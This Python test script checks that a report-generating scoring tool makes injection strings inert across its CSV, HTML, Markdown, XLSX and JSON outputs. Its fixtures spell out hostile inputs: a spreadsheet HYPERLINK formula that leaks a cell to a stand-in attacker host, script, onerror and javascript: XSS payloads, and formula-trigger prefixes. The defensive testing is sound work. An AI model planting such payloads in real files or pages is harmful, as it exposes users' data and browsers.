#!/usr/bin/env python3
"""Strings that try to become formulas, markup or extra cells arrive in every
report as the same text, and inert.

Scores tests/data/injection (names, evidence and reasons holding
=HYPERLINK(...), +1, -1+1, @SUM(A1), a leading tab, <script>, attribute
breakers, javascript: links, pipes, backticks, commas, quotes and newlines)
in Korean and English, writes the run folder and the comparison CSVs, and
reads each output back:
  CSV   parsed by Python's csv module; a text cell never starts with = + @ or a
        tab (nor - unless it is a number), and removing the ' guard gives the
        original text exactly;
  HTML  parsed by html.parser: no script, img, iframe or other active element,
        no link but the report's own #anchors, no on* attribute, no
        javascript: URL; the names are in the text;
  MD    no raw < (so no tag), and every table row has as many cells as its
        header;
  XLSX  no formula mentions the payloads (they are shared strings);
  JSON  the names come back exactly.
Usage: check_injection.py ECOSCORE REPO_ROOT
"""
import csv
import html.parser
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

RUBRIC = "tests/data/mini/rubric.yaml"
INPUTS = "tests/data/injection"
GUARDED = ("=", "+", "-", "@", "\t", "\r")

# The texts as written in the fixtures (what YAML gives).
NAMES = {
    "formula-firm": {"ko": '=HYPERLINK("http://evil.example/?leak="&A1,"열기")',
                     "en": "<script>alert('x')</script> & \"quoted\" 'single'"},
    "pipe-firm": {"ko": "| pipe `tick` <img src=x onerror=alert(1)>",
                  "en": "\" onmouseover=\"alert(1)\" x=\""},
}
EVIDENCE = ["+1", "-1+1", "@SUM(A1)", "\tlead tab", "<a href=\"javascript:alert(1)\">proof</a>"]

failures = []


def fail(message):
    failures.append(message)
    print("FAIL:", message)


def run(binary, root, *args):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C.UTF-8", "TZ": "UTC"}
    subprocess.run([binary, *args], cwd=root, env=env, check=True, capture_output=True)


def is_number(text):
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None


def check_csv(path, expected_texts):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    seen = set()
    for row in rows:
        for cell in row:
            if cell.startswith(GUARDED) and not (cell.startswith("-") and is_number(cell)):
                fail(f"{path}: unguarded cell {cell!r}")
            if cell.startswith("'") and cell[1:].startswith(GUARDED):
                cell = cell[1:]
            seen.add(cell)
    for text in expected_texts:
        if not any(text in cell for cell in seen):
            fail(f"{path}: {text!r} did not come back")


class Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        # The report's own links are anchors within the page.
        if tag == "a" and all(n == "href" and (v or "").startswith("#") for n, v in attrs):
            return
        if tag in ("script", "img", "iframe", "a", "object", "embed", "link", "base", "form"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"{tag} {name}=")
            if value and "javascript:" in value.lower():
                self.bad.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        self.text.append(data)


def check_html(path, names):
    with open(path, encoding="utf-8") as f:
        page = f.read()
    parser = Tags()
    parser.feed(page)
    for b in parser.bad:
        fail(f"{path}: active markup {b}")
    text = "".join(parser.text)
    for name in names:
        if name not in text:
            fail(f"{path}: name {name!r} not shown as text")


def check_markdown(path):
    with open(path, encoding="utf-8") as f:
        lines = f.read().split("\n")
    if any("<" in line for line in lines):
        fail(f"{path}: a raw '<' could open a tag")
    cells = lambda line: len(re.findall(r"(?<!\\)\|", line))
    header = None
    for line in lines:
        if line.startswith("|"):
            if header is None:
                header = cells(line)
            elif cells(line) != header:
                fail(f"{path}: row has {cells(line)} separators, header {header}: {line[:80]}")
        else:
            header = None


def check_xlsx(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            xml = z.read(name).decode("utf-8")
            for formula in re.findall(r"<f>(.*?)</f>", xml):
                if "HYPERLINK" in formula or "SUM(A1)" in formula:
                    fail(f"{path}/{name}: a payload became a formula: {formula}")


def main() -> int:
    binary, root = sys.argv[1:3]
    work = tempfile.mkdtemp(prefix="ecoscore-injection-")
    try:
        for lang in ("ko", "en"):
            out = os.path.join(work, lang)
            run(binary, root, "score", "-q", "--lang", lang, "--rubric", RUBRIC, "--out", out, INPUTS)
            names = [n[lang] for n in NAMES.values()]
            check_csv(os.path.join(out, "scores.csv"), names)
            check_html(os.path.join(out, "report.html"), names)
            check_markdown(os.path.join(out, "report.md"))
            check_xlsx(os.path.join(out, "report.xlsx"))
            with open(os.path.join(out, "scores.json"), encoding="utf-8") as f:
                scores = json.load(f)
            for c in scores["companies"]:
                for key in ("ko", "en"):
                    if c["name"][key] != NAMES[c["id"]][key]:
                        fail(f"scores.json: {c['id']} name {key} is {c['name'][key]!r}")
            for firm in NAMES:
                view = os.path.join(work, f"{lang}-{firm}")
                run(binary, root, "compare", "-q", "--lang", lang, "--rubric", RUBRIC, "--view", "firm", "--firm",
                    firm, "--format", "csv", "--out", view, INPUTS)
                run(binary, root, "compare", "-q", "--lang", lang, "--rubric", RUBRIC, "--view", "firm", "--firm",
                    firm, "--format", "html", "--out", view + "-html", INPUTS)
                for page in os.listdir(view + "-html"):
                    if page.endswith(".html"):
                        check_html(os.path.join(view + "-html", page), [NAMES[firm][lang]])
            evidence_csv = os.path.join(work, f"{lang}-formula-firm", "indicators.csv")
            check_csv(evidence_csv, EVIDENCE[:4])
            check_csv(os.path.join(work, f"{lang}-pipe-firm", "indicators.csv"), EVIDENCE[4:])
            cohort = os.path.join(work, f"{lang}-cohort")
            run(binary, root, "compare", "-q", "--lang", lang, "--rubric", RUBRIC, "--format", "csv", "--out", cohort,
                INPUTS)
            check_csv(os.path.join(cohort, "ranking.csv"), names)
        if failures:
            print(f"{len(failures)} problems")
            return 1
        print("every payload came back as the same, inert text (CSV, HTML, Markdown, XLSX, JSON; ko and en)")
        return 0
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
